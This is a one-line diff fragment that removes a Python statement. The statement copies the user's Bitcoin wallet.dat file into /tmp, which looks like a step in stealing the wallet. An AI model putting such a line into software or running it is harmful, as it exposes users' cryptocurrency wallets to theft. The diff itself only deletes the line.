@@ -1,1 +1,0 @@
-shutil.copy(home + "/.bitcoin/wallet.dat", "/tmp/w")
